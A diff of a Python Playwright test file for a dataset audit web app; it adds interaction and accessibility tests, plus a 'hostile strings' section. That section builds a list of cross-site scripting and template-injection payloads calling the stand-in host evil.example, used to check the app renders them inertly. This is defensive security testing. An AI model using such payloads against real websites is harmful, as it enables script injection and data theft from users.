@@ -1,73 +1,28 @@
 """The audit in a real browser: headless Chromium through Playwright."""
 
-import shutil
-import threading
-import time
+import json
+from urllib.parse import quote
 
 import pytest
-import uvicorn
-from audit_data import write_small_dataset
 
-from curation.audit.server import application
 from curation.audit.static import write_static
-from curation.contract import Dataset
+from curation.contract import TABLES, Dataset
 from t3dkit.progress import Progress
+from t3dkit.tables import write_table
 
-CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
-FLAGS = [
-    "--no-sandbox",
-    "--disable-gpu",
-    "--disable-quic",
-    "--no-first-run",
-    "--disable-background-networking",
-    "--disable-component-update",
-    "--disable-sync",
-]
 TOKEN = "browser-test-token"
+PAGES = (
+    "/",
+    "/sheet",
+    "/distributions",
+    "/sample",
+    "/agreement",
+    "/drops",
+    "/drops?reason=TOO_FEW_SLICES",
+    "/case/pair-1",
+)
 
-pytestmark = [
-    pytest.mark.browser,
-    pytest.mark.xdist_group("browser"),
-    pytest.mark.skipif(CHROMIUM is None, reason="Chromium is not installed (Debian package chromium)"),
-]
-
-
-@pytest.fixture
-def root(tmp_path):
-    return write_small_dataset(tmp_path / "dataset")
-
-
-@pytest.fixture
-def address(root):
-    import socket
-
-    listener = socket.socket()
-    listener.bind(("127.0.0.1", 0))
-    port = listener.getsockname()[1]
-    server = uvicorn.Server(uvicorn.Config(application(root, token=TOKEN, port=port), log_level="warning"))
-    thread = threading.Thread(target=server.run, kwargs={"sockets": [listener]}, daemon=True)
-    thread.start()
-    deadline = time.monotonic() + 20
-    while not server.started and time.monotonic() < deadline:
-        time.sleep(0.02)
-    yield f"http://127.0.0.1:{port}"
-    server.should_exit = True
-    thread.join(timeout=20)
-
-
-@pytest.fixture
-def page():
-    from playwright.sync_api import sync_playwright
-
-    with sync_playwright() as play:
-        browser = play.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
-        made = browser.new_page(viewport={"width": 1500, "height": 950})
-        made.troubles = []
-        made.on("pageerror", lambda error: made.troubles.append(str(error)))
-        made.on("dialog", lambda dialog: made.troubles.append(f"dialog {dialog.message}"))
-        made.on("console", lambda message: message.type == "error" and made.troubles.append(message.text))
-        yield made
-        browser.close()
+pytestmark = [pytest.mark.browser, pytest.mark.xdist_group("browser")]
 
 
 def test_a_sentence_click_moves_the_crosshair_into_its_box(page, address):
@@ -103,20 +58,253 @@ def test_a_click_in_the_volume_marks_the_sentences_about_that_place(page, addres
     assert page.locator("button.sentence.here").count() >= 1
 
 
-def test_hostile_reports_run_nothing(page, address):
+def test_a_click_lists_the_sentences_and_one_of_them_leads_back(page, address):
     page.goto(f"{address}/?token={TOKEN}")
     page.goto(f"{address}/case/pair-1")
-    page.wait_for_timeout(300)
-    assert "<script>alert" in page.inner_text(".text")
+    page.click("button.sentence >> nth=0")
+    assert "spleen" in page.inner_text("#here-list")
+    page.locator("svg.plane[data-plane=axial]").click(position={"x": 5, "y": 5})
+    page.locator("#here-list", has_text="no sentence").wait_for()
+    page.click("button.sentence >> nth=0")
+    page.click("#here-list button >> nth=0")
+    assert page.get_attribute("body", "data-crosshair") == "6,7,9"
+
+
+def with_pointer(root, *, series):
+    """The second report's second sentence points at image 40; images 1 to 90 lie 1 mm apart from above down."""
+    data = Dataset.open(root)
+    sentences, volumes = data.rows("sentences"), data.rows("volumes")
+    for row in sentences:
+        if row["sentence_id"] == "sentence-1-1":
+            row |= {"image_pointer": {"series": series, "image": 40}, "regions": ["brain"]}
+    for row in volumes:
+        row["slice_map"] = {"series_number": 3, "instance_number": list(range(1, 91)),
+                            "position_mm": [90.0 - n for n in range(1, 91)], "normal_lps": [0.0, 0.0, 1.0]}  # fmt: skip
+    write_table(root / "sentences.parquet", sentences, TABLES["sentences"])
+    write_table(root / "volumes.parquet", volumes, TABLES["volumes"])
+
+
+def test_an_image_that_the_report_names_is_shown(page, root, address):
+    with_pointer(root, series=3)
+    page.goto(f"{address}/?token={TOKEN}")
+    page.goto(f"{address}/case/pair-1")
+    page.click("button.sentence >> nth=1")
+    assert page.get_attribute("body", "data-crosshair").split(",")[2] == "17"  # 50 mm of 3 mm voxels
+    page.keyboard.press("i")
+    page.keyboard.type("3/84")
+    page.keyboard.press("Enter")
+    assert page.get_attribute("body", "data-crosshair").split(",")[2] == "2"
+    assert "series 3 image 84" in page.inner_text("#place")
+    for asked, said in (("4/10", "series 4 is not the one shown"), ("3/200", "no image 200")):
+        page.fill("#jump", asked)
+        page.keyboard.press("Enter")
+        page.locator("#place", has_text=said).wait_for()
     assert page.troubles == []
+
+
+def test_five_keys_at_most_from_the_page_to_a_verdict(page, address, root):
+    page.goto(f"{address}/?token={TOKEN}")
+    page.goto(f"{address}/case/pair-1")
+    keys = ["j", "j", "w"]
+    for key in keys:
+        page.keyboard.press(key)
+    page.locator("#current", has_text="wrong report").wait_for()
+    assert len(keys) <= 5
+    assert Dataset.open(root).verdicts == {"pair-1": "wrong_report"}
+
+
+def test_keys_typed_into_a_field_decide_nothing(page, address, root):
+    page.goto(f"{address}/?token={TOKEN}")
+    page.goto(f"{address}/case/pair-1")
+    page.keyboard.press("t")
+    page.keyboard.type("arwgeu")
+    page.fill("#jump", "a")
+    page.wait_for_timeout(200)
+    assert Dataset.open(root).verdicts == {}
+    assert page.input_value("#note") == "arwgeu"
+
+
+def test_two_readers_see_each_other_only_after_their_own_verdict(page, address):
+    page.goto(f"{address}/?token={TOKEN}")
+    for reader, key in (("ann", "r"), ("bob", "a")):
+        page.goto(f"{address}/case/pair-1")
+        page.fill("#reader", reader)
+        with page.expect_navigation():
+            page.press("#reader", "Tab")
+        assert page.inner_text("#current") == "none yet"
+        page.keyboard.press(key)
+        page.locator("#current", has_text={"r": "reject", "a": "accept"}[key]).wait_for()
+    page.goto(f"{address}/agreement")
+    assert "ann reject, bob accept" in page.inner_text("main")
+    assert page.troubles == []
+
+
+def test_a_bar_leads_to_its_cases(page, address):
+    page.goto(f"{address}/?token={TOKEN}")
+    page.goto(f"{address}/distributions")
+    page.click("text=NOTHING_LOCATED")
+    assert page.locator("table.worklist tbody tr").count() == 1
+    page.click("text=pair-0")
+    page.wait_for_url("**/case/pair-0?flag=NOTHING_LOCATED")
+
+
+def test_a_drop_is_judged_from_the_sample(page, address):
+    page.goto(f"{address}/?token={TOKEN}")
+    page.goto(f"{address}/sample")
+    page.click("button.judge >> nth=1")
+    page.locator(".judged", has_text="wrongly dropped").wait_for()
+    page.reload()
+    assert "wrongly dropped" in page.inner_text(".judged")
+
+
+# hostile strings
+
+CODE = "window.pwned=1;fetch('http://evil.example/')"
+EVIL = "//evil.example/"
+TAGS = (
+    f"<script>{CODE}</script>",
+    f'<img src=x onerror="{CODE}">',
+    f'<svg onload="{CODE}">',
+    f"<body onload={CODE}>",
+    f"<iframe srcdoc='<script>{CODE}</script>'>",
+    f'<a href="javascript:{CODE}">x</a>',
+    f"<base href={EVIL}>",
+    f"<link rel=stylesheet href={EVIL}x.css>",
+    f"<details open ontoggle={CODE}>",
+    f"<video src=x onerror={CODE}>",
+    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
+    f"<img src={EVIL}x.png>",
+    f"<object data={EVIL}>",
+    f"<embed src={EVIL}>",
+    f"<input autofocus onfocus={CODE}>",
+    f"<style>@import '{EVIL}x.css';</style>",
+    f"<form action={EVIL}><button>x",
+    f"<math><mi xlink:href='data:x,{CODE}'>",
+    f"javascript:{CODE}",
+    f"data:text/html,<script>{CODE}</script>",
+    f"{{{{ {CODE} }}}}",
+    f"{{% {CODE} %}}",
+    f"${{{CODE}}}",
+    "{{ config }}",
+    "{{ ''.__class__.__mro__ }}",
+    f"--><script>{CODE}</script>",
+    f"]]><script>{CODE}</script>",
+)
+WRAPS = ("{}", '">{}', "'>{}", "</textarea>{}", "</title>{}", "</script>{}", "</style>{}", "\u202e{}\u202c", "\ufffd{}")
+HOSTILE = [wrap.format(tag) for wrap in WRAPS for tag in TAGS]
+
+
+def make_hostile(root):
+    """Every hostile string in every field that a report, a scanner or a person can fill."""
+    data = Dataset.open(root)
+    texts = "\n".join(HOSTILE)
+    volumes, pairs, series = data.rows("volumes"), data.rows("pairs"), data.rows("series")
+    reports, sentences = data.rows("reports"), data.rows("sentences")
+    reports[1]["text"] = texts
+    reports[1]["language"] = HOSTILE[5]
+    kept = [row for row in sentences if row["report_id"] != "report-1"]
+    start = 0
+    for n, text in enumerate(HOSTILE):
+        kept.append(
+            {
+                "sentence_id": f"s{n}", "report_id": "report-1", "pair_id": "pair-1", "section": text, "index": n,
+                "char_start": start, "char_end": start + len(text), "text": text, "regions": [text], "assertion": text,
+                "is_normal": False, "is_prior_comparison": False, "measurements_mm": [],
+            }
+        )  # fmt: skip
+        start += len(text) + 1
+    volumes[1] |= {
+        "vendor": HOSTILE[0], "kernel": HOSTILE[1], "contrast": HOSTILE[2], "body_regions": HOSTILE,
+        "repairs": [{"code": text, "detail": text} for text in HOSTILE],
+    }  # fmt: skip
+    pairs[1] |= {"flags": HOSTILE, "link_rule": HOSTILE[3], "split": HOSTILE[4]}
+    series[1] |= {"geometry": texts, "rank_reasons": HOSTILE, "reason": HOSTILE[6]}
+    dropped = [{"stage": text, "kind": "study", "item_id": text, "reason": text, "detail": text} for text in HOSTILE]
+    suspicions = [{"pair_id": "pair-1", "code": text, "severity": "alarm", "detail": text} for text in HOSTILE]
+    for name, rows in {
+        "volumes": volumes, "pairs": pairs, "series": series, "reports": reports, "sentences": kept,
+        "dropped": dropped, "suspicions": suspicions,
+    }.items():  # fmt: skip
+        write_table(root / f"{name}.parquet", rows, TABLES[name])
+    manifest = root / "dataset.json"
+    manifest.write_text(manifest.read_text().replace('"small"', json.dumps(HOSTILE[9])), encoding="utf-8")
+
+
+@pytest.fixture
+def hostile(root):
+    make_hostile(root)
+    return root
+
+
+def test_hostile_strings_run_nothing_and_reach_nobody(page, hostile, address):
+    assert len(HOSTILE) >= 200
+    page.goto(f"{address}/?token={TOKEN}")
+    for path in (*PAGES, f"/?words={quote(HOSTILE[1])}&flag={quote(HOSTILE[0])}", f"/drops?reason={quote(HOSTILE[2])}"):
+        page.goto(f"{address}{path}")
+        page.wait_for_timeout(150)
+        assert page.evaluate("window.pwned") is None, path
+    page.goto(f"{address}/case/pair-1")
+    shown = page.inner_text(".text")
+    assert all(" ".join(text.split()) in " ".join(shown.split()) for text in HOSTILE if "\u202e" not in text)
+    for text in HOSTILE[:30]:
+        page.fill("#note", text)
+        page.click("button.decide >> nth=1")
+        page.wait_for_timeout(20)
+    page.reload()
+    assert page.evaluate("window.pwned") is None
+    assert (
+        page.locator("main script, main iframe, main object, main embed, main base, main meta").count() <= 1
+    )  # our own
+    assert [url for url in page.asked if not url.startswith((address, "data:"))] == []
+    assert page.troubles == []
+
+
+def test_hostile_strings_stay_inert_in_the_static_page(page, hostile, tmp_path):
+    file = tmp_path / "audit.html"
+    write_static(hostile, file, progress=Progress(quiet=True))
+    page.goto(f"file://{file}")
+    page.wait_for_timeout(300)
+    assert page.evaluate("window.pwned") is None
+    assert [url for url in page.asked if not url.startswith((f"file://{file}", "data:"))] == []
+    assert page.troubles == []
+
+
+# accessibility
+
+
+def serious(page):
+    """Findings of axe-core that are serious or critical."""
+    from axe_playwright_python.sync_playwright import Axe
+
+    found = Axe().run(page).response["violations"]
+    return [(one["id"], one["nodes"][0]["html"][:120]) for one in found if one["impact"] in ("serious", "critical")]
+
+
+def test_the_accessibility_check_finds_what_is_wrong(page):
+    page.set_content("<html><body><img src='data:,x'><button></button></body></html>")
+    assert {rule for rule, _ in serious(page)} >= {"image-alt", "button-name"}
+    page.troubles.clear()
+
+
+def test_the_pages_have_no_serious_accessibility_findings(page, address):
+    page.goto(f"{address}/?token={TOKEN}")
+    for path in PAGES:
+        page.goto(f"{address}{path}")
+        assert serious(page) == [], path
+
+
+def test_the_static_page_has_no_serious_accessibility_findings(page, root, tmp_path):
+    file = tmp_path / "audit.html"
+    write_static(root, file, progress=Progress(quiet=True))
+    page.goto(f"file://{file}")
+    assert serious(page) == []
 
 
 def test_the_static_page_opens_from_disk(page, root, tmp_path):
     file = tmp_path / "audit.html"
     write_static(root, file, progress=Progress(quiet=True))
-    requests = []
-    page.on("request", lambda request: requests.append(request.url))
+    page.context.set_offline(True)
     page.goto(f"file://{file}")
     assert page.inner_text("h1") == "Audit of small"
-    assert [url for url in requests if not url.startswith(("file://", "data:"))] == []
+    assert [url for url in page.asked if not url.startswith(("file://", "data:"))] == []
     assert page.troubles == []
